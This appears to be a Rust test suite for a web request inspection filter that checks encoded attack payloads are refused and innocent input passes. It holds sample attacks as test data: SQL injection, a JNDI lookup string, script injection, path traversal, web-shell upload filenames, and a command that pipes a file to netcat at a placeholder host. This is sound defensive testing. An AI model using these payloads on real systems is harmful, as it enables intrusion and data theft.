//! Payload inspection, against `testdata/inspect.toml`: attacks in several encodings and places, and what must pass.
#![allow(clippy::unwrap_used, reason = "tests")]

use proptest::prelude::*;
use security_web::{Inspection, InspectionMode, InspectionPolicy, RULES, RequestView, inspect};
use serde::Deserialize;

#[derive(Deserialize)]
struct Table {
    attack: Vec<Attack>,
    innocent: Vec<Innocent>,
}

#[derive(Deserialize)]
struct Attack {
    category: String,
    values: Vec<String>,
}

#[derive(Deserialize)]
struct Innocent {
    kind: String,
    #[serde(default)]
    place: String,
    values: Vec<String>,
}

fn table() -> Table {
    toml::from_str(include_str!("../../../testdata/inspect.toml")).unwrap()
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(
            |byte| {
                if byte.is_ascii_alphanumeric() {
                    char::from(byte).to_string()
                } else {
                    format!("%{byte:02X}")
                }
            },
        )
        .collect()
}

fn json_escaped(text: &str) -> String {
    text.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect()
}

fn look(request: RequestView<'_>) -> Inspection {
    inspect(&InspectionPolicy::default(), &request)
}

fn query(text: &str) -> Inspection {
    look(RequestView { path: "/x", query: text, ..RequestView::default() })
}

fn body(content_type: &str, body: &[u8]) -> Inspection {
    let headers = [("Content-Type", content_type.as_bytes())];
    look(RequestView { path: "/x", headers: &headers, body: Some(body), ..RequestView::default() })
}

fn header(name: &str, value: &[u8]) -> Inspection {
    look(RequestView { path: "/x", headers: &[(name, value)], ..RequestView::default() })
}

#[test]
fn attacks_are_refused_in_every_place_and_encoding() {
    let mut missed = Vec::new();
    let mut n_cases = 0;
    for attack in table().attack {
        // Boxes for searching fetch nothing.
        let name = if attack.category == "ssrf" { "url" } else { "q" };
        for value in &attack.values {
            let once = percent(value);
            let json = serde_json::json!({"a": [value]}).to_string();
            let found = [
                ("query", query(&format!("{name}={once}"))),
                ("query-twice", query(&format!("{name}={}", percent(&once)))),
                ("form", body("application/x-www-form-urlencoded", format!("a=1&{name}={once}").as_bytes())),
                ("json", body("application/json", json.as_bytes())),
                (
                    "json-escaped",
                    body("application/json", format!("{{\"a\":\"{}\"}}", json_escaped(value)).as_bytes()),
                ),
                (
                    "multipart",
                    body(
                        "multipart/form-data; boundary=B",
                        format!(
                            "--B\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n--B--\r\n"
                        )
                        .as_bytes(),
                    ),
                ),
                ("cookie", header("Cookie", format!("a=b; {name}={once}").as_bytes())),
            ];
            for (place, found) in found {
                n_cases += 1;
                if !found.is_denied {
                    missed.push(format!("{} {place}: {value:?}", attack.category));
                } else if place == "query" && !found.reasons.iter().any(|r| r.category == attack.category) {
                    missed.push(format!("{} only as {:?}: {value:?}", attack.category, found.reasons));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{} of {n_cases}:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn innocent_values_pass_at_the_first_level() {
    let mut wronged = Vec::new();
    for innocent in table().innocent {
        for value in &innocent.values {
            let once = percent(value);
            let json = serde_json::json!({"a": [value]}).to_string();
            let mut found = vec![header("User-Agent", value.as_bytes())];
            if innocent.place != "header" {
                found.push(query(&format!("q={once}")));
                found.push(body("application/x-www-form-urlencoded", format!("q={once}").as_bytes()));
                found.push(body("application/json", json.as_bytes()));
            } else {
                found.push(header("X-Other", value.as_bytes()));
            }
            if value.contains('\n') {
                let _ = found.remove(0);
            }
            for found in found.iter().filter(|found| found.is_denied) {
                wronged.push(format!("{}: {value:?} {:?}", innocent.kind, found.reasons));
            }
        }
    }
    assert!(wronged.is_empty(), "{}:\n{}", wronged.len(), wronged.join("\n"));
}

#[test]
fn the_table_is_large_enough() {
    let table = table();
    let attacks: usize = table.attack.iter().map(|attack| attack.values.len()).sum();
    let innocent: usize = table.innocent.iter().map(|innocent| innocent.values.len()).sum();
    assert!(attacks >= 200 && innocent >= 100, "{attacks} attacks, {innocent} innocent values");
}

#[test]
fn reasons_say_where_and_show_no_secrets() {
    let found = body("application/json", br#"{"a": {"b": [1, "' or 1=1--"]}, "password": "x' or 1=1--"}"#);
    let places: Vec<&str> = found.reasons.iter().map(|reason| reason.where_.as_str()).collect();
    assert!(places.contains(&"body:/a/b/1") && places.contains(&"body:/password"), "{places:?}");
    let secret = found.reasons.iter().find(|reason| reason.where_ == "body:/password").unwrap();
    assert_eq!(secret.evidence, "****");
    let found = header("User-Agent", b"${jndi:ldap://x.example/a}");
    assert_eq!(
        (found.reasons[0].id.as_ref(), found.reasons[0].where_.as_str()),
        ("lookup-expression", "header:user-agent")
    );
    for name in ["__proto__.x", "a[$ne]", "%5F%5Fproto%5F%5F"] {
        assert!(query(&format!("{name}=1")).is_denied, "{name}");
    }
    let found = header("Cookie", b"sid=%3Cscript%3Ex%3C/script%3E");
    assert!(found.is_denied);
    assert!(found.reasons.iter().all(|reason| reason.where_ == "cookie:sid" && reason.evidence == "****"));
    let found = look(RequestView { path: "/files/%2e%2e/%2e%2e/etc/x", ..RequestView::default() });
    assert_eq!((found.reasons[0].where_.as_str(), found.is_denied), ("path", true));
}

#[test]
fn modes_thresholds_and_exclusions() {
    let request = RequestView { path: "/articles/7", query: "html=%3Cscript%3E", ..RequestView::default() };
    let with = |text: &str| inspect(&toml::from_str(text).unwrap(), &request);
    assert!(with("").is_denied);
    let reported = with("mode = \"report\"");
    assert!(!reported.is_denied && reported.score >= 5 && !reported.reasons.is_empty());
    assert_eq!(with("mode = \"off\""), Inspection::default());
    assert!(!with("threshold = 50").is_denied);
    let excluded = with("[[exclude]]\npath = [\"/articles\"]\nparameter = \"html\"\nrules = [\"xss\"]");
    assert_eq!((excluded.score, excluded.reasons.len()), (0, 0));
    assert!(with("[[exclude]]\npath = [\"/other\"]").is_denied);
    assert!(with("[[exclude]]\nparameter = \"title\"").is_denied);
    let noted = with("report = [\"xss\"]");
    assert!(!noted.is_denied && noted.score == 0 && !noted.reasons.is_empty());
    assert!(with("report = [\"xss-tokens\", \"sql-injection\"]").is_denied, "another rule still counts");
}

/// A host of code leaves out the rules that are about code, for the fields that hold it and for nothing else.
#[test]
fn a_host_of_code_excludes_its_fields() {
    const POLICY: &str = "[[exclude]]\npath = [\"/snippets\"]\nparameter = \"source\"\n\
        rules = [\"sql-injection\", \"xss\", \"command-injection\", \"code-injection\", \"template-injection\"]";
    let policy: InspectionPolicy = toml::from_str(POLICY).unwrap();
    let request = |path: &str, content_type: &str, body: &str| {
        let headers = [("content-type", content_type.as_bytes())];
        let view =
            RequestView { path, headers: &headers, body: Some(body.as_bytes()), ..RequestView::default() };
        inspect(&policy, &view)
    };
    const JSON: &str = "application/json";
    for code in [
        "const { exec } = require('child_process'); exec('ls -la', show)",
        "<button onclick=\"save()\">Save</button><script src=\"app.js\"></script>",
        "<?php echo htmlspecialchars($_GET['q']); ?>",
        "1' or 1=1 union select name from users--",
        "x; cat /etc/hosts | nc 192.0.2.1 80",
        "{{ 7*7 }}",
    ] {
        let json = serde_json::json!({"files": [{"name": "a.txt", "source": code}]}).to_string();
        let form = format!("name=a.txt&source={}", percent(code));
        let multipart =
            format!("--B\r\nContent-Disposition: form-data; name=\"source\"\r\n\r\n{code}\r\n--B--\r\n");
        let bodies = [
            (JSON, json.as_str()),
            ("application/x-www-form-urlencoded", &form),
            ("multipart/form-data; boundary=B", &multipart),
        ];
        for (content_type, body) in bodies {
            let found = request("/snippets/7", content_type, body);
            assert!(
                !found.is_denied && found.reasons.is_empty(),
                "{code} {content_type} {:?}",
                found.reasons
            );
            assert!(request("/profile", content_type, body).is_denied, "{code}: another path");
            let elsewhere = body.replace("source", "title");
            assert!(request("/snippets/7", content_type, &elsewhere).is_denied, "{code}: another field");
        }
    }
    // What is not about code is refused there as well.
    let other = serde_json::json!({"source": "${jndi:ldap://x.example/a}"}).to_string();
    assert!(request("/snippets", JSON, &other).is_denied);
}

#[test]
fn every_rule_is_in_the_docs() {
    let page = include_str!("../../../docs/inspection.md");
    for rule in RULES {
        let row = format!("| `{}` | {} | {} | {} |", rule.id, rule.category, rule.score, rule.paranoia);
        assert!(page.contains(&row), "docs/inspection.md has no row that begins with {row}");
    }
    assert_eq!(page.matches("\n| `").count(), RULES.len(), "the page has rules that do not exist");
    let example = page.split("```toml\n").nth(1).unwrap().split("```").next().unwrap();
    let example = example.replace("[web.inspection]", "").replace("web.inspection.", "");
    let policy: InspectionPolicy = toml::from_str(&example).unwrap();
    assert_eq!(
        policy,
        InspectionPolicy {
            report: policy.report.clone(),
            exclude: policy.exclude.clone(),
            ..InspectionPolicy::default()
        }
    );
}

#[test]
fn higher_levels_find_more() {
    let at = |paranoia, text: &str| {
        let policy = InspectionPolicy { paranoia, threshold: 1, ..InspectionPolicy::default() };
        let query = format!("q={}", percent(text));
        inspect(&policy, &RequestView { path: "/", query: &query, ..RequestView::default() }).is_denied
    };
    for (text, level) in [
        ("select a from b", 2),
        ("a/../b", 2),
        ("{{name}}", 2),
        ("<b>x</b>", 2),
        ("it's (a)", 3),
        ("a < b", 4),
    ] {
        assert!(!at(level - 1, text) && at(level, text), "{text}");
    }
}

#[test]
fn beyond_a_budget_is_a_reason() {
    let many: String = (0..3000).map(|n| format!("a{n}=1&")).collect();
    for (found, denied) in [
        (query(&many), true),
        (body("application/x-www-form-urlencoded", many.as_bytes()), true),
        (body("application/json", "[".repeat(100_000).as_bytes()), true),
        (body("application/json", "{\"a\":".repeat(100_000).as_bytes()), true),
        (body("text/plain", &vec![b'a'; 300 << 10]), false),
        (body("application/json", format!("[\"{}\"]", "a".repeat(300 << 10)).as_bytes()), false),
    ] {
        assert_eq!(found.is_denied, denied);
        assert!(
            found.reasons.iter().any(|reason| reason.id.starts_with("inspection-limit")),
            "{:?}",
            found.reasons
        );
    }
}

#[test]
fn base64_of_an_attack_is_one() {
    for hidden in ["PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "JyBvciAxPTEtLQo9", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA"] {
        assert!(query(&format!("q={hidden}")).is_denied, "{hidden}");
        let path = format!("/x/{hidden}");
        assert!(
            look(RequestView { path: &path, ..RequestView::default() }).is_denied || hidden.len() < 20,
            "{hidden}"
        );
    }
}

#[test]
fn uploads_and_their_names() {
    let part = |head: &str, content: &str| {
        let text = format!("--B\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--B--\r\n");
        body("multipart/form-data; boundary=B", text.as_bytes())
    };
    assert!(part("name=f; filename=\"../../x.php\"", "x").is_denied);
    assert!(part("name=f; filename=\"x.png\"", "GIF89a<?php x ?>").is_denied);
    for name in [
        "x.php",
        "x.PHP5",
        "x.jpg.phtml",
        "x.php.",
        "x.aspx ",
        ".htaccess",
        "a/x.jsp",
        "web.config",
        "x.asp;.jpg",
        "x.php77",
    ] {
        assert!(part(&format!("name=f; filename=\"{name}\""), "x").is_denied, "{name}");
        assert!(header("X-Filename", name.as_bytes()).is_denied, "{name}");
    }
    for name in ["php.txt", "x.php.md", "asp", "report.pdf", "a.config"] {
        assert!(!part(&format!("name=f; filename=\"{name}\""), "x").is_denied, "{name}");
    }
    assert!(!part("name=f; filename=\"x.txt\"", "<b>' or 1=1</b>").is_denied);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn any_bytes_are_fine(bytes in prop::collection::vec(any::<u8>(), 0..200), kind in 0usize..6) {
        let types = ["", "application/json", "multipart/form-data; boundary=B", "text/xml", "application/x-www-form-urlencoded", "x"];
        let _ = body(types[kind], &bytes);
        let _ = header("X", &bytes);
        let _ = header("Cookie", &bytes);
    }

    #[test]
    fn any_mixture_of_signs_is_fine(text in "[-'\"`;|&$(){}<>=/\\\\.*#@!%:+, 0-9a-fnorux\\[\\]\\t\\r\\n\\x00ÿ—]{0,120}") {
        let _ = body("text/plain", text.as_bytes());
        let _ = query(&text);
        let policy = InspectionPolicy { paranoia: 4, mode: InspectionMode::Report, ..InspectionPolicy::default() };
        let _ = inspect(&policy, &RequestView { path: &text, query: &text, ..RequestView::default() });
    }

    #[test]
    fn any_xml_is_fine(text in "(<[!?/a:]{0,2}|>|]]>|--|\\[|CDATA|='|\"|&#x?[0-9a-f]{0,3};?|[ a-e/=]){0,60}") {
        let found = body("application/xml", text.as_bytes());
        prop_assert!(found.reasons.len() <= 32);
        let found = body("", format!("<?xml?>{text}").as_bytes());
        prop_assert!(found.reasons.len() <= 32);
    }

    #[test]
    fn any_words_together_are_fine(words in prop::collection::vec(prop::sample::select(vec![
        "select", "union", " ", "'", "\"", "or", "1", "=", "--", "/*", "*/", "(", ")", "<", ">", "script", "on", "{{", "}}", "${", ";", "|", "cat", "../",
        "x'", "q'", "$a$", "\\", "`", "0x", "{", "<!--", "<![CDATA[", "&#x", "%u00", "@@", "e'", "n'", "u&'", "b'", "\0", "!", "/*!", "sp_password", "#", "-", "like", "in",
    ]), 0..40)) {
        let text = words.concat();
        let _ = body("text/plain", text.as_bytes());
    }
}
